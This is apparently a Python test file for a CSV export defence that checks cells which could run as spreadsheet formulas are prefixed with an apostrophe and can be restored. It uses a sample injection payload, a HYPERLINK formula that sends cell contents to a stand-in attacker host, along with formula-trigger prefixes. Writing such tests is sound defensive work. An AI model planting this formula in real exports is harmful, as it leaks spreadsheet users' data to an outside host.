"""No cell of a CSV file is run as a formula, and each can be had back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agreement import tables
from bundle.formats.records import write_adjudications, write_ratings
from bundle.records import Adjudication, Rating
from web.tables.csv_cells import defused, restored

FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "＝1", "'=1", "-inf"],
)
def test_text_that_could_be_a_formula_gets_an_apostrophe(text):
    assert defused(text) == f"'{text}"
    assert restored(f"'{text}") == text


@pytest.mark.parametrize(
    "cell", ["-0.25", "+5", "-1e-07", "12345", "a=b", "o'neill", "'tis", "", None, 7, -0.5, True]
)
def test_numbers_and_other_text_stay(cell):
    assert defused(cell) == cell


@given(st.text())
def test_every_text_can_be_had_back(text):
    assert restored(defused(text)) == text


@given(st.text(alphabet="'=+-@ 1a"))
def test_every_odd_text_can_be_had_back(text):
    assert restored(defused(text)) == text


def cells_of(content) -> list[str]:
    text = content.decode() if isinstance(content, bytes) else content
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize(
    ("write", "record"), [(write_ratings, Rating), (write_adjudications, Adjudication)]
)
def test_no_cell_of_a_release_is_a_formula(write, record):
    row = record(*[FORMULA] * len(record._fields))

    cells = cells_of(write([row]))

    # The round is written only where a collection has a second pool round.
    shown = [cell for cell in cells if "HYPERLINK" in cell]
    assert set(shown) == {f"'{FORMULA}"}
    assert len(shown) >= len(record._fields) - 1


def test_no_cell_of_the_agreement_download_is_a_formula():
    values = dict.fromkeys(tables.BY_KEY, -0.25)
    shares = dict.fromkeys(tables.OVERRULED, 0.5)
    common = {"facet": FORMULA, "stage": "before", "pairs": 3, **shares}
    medians = {"median": values, "defined": dict.fromkeys(values, 1)}
    facet = {**common, "queries": 1, **medians, "interval": dict.fromkeys(values)}
    query = {**common, **values, "query": f"-{FORMULA}", "n": 3, "missing": 0, "undefined": {}}

    cells = cells_of(tables.as_csv({"facets": [facet], "queries": [query]}))

    assert cells.count(f"'{FORMULA}") == 2
    assert cells.count(f"'-{FORMULA}") == 1
    assert cells.count("-0.25") == 2 * len(values)
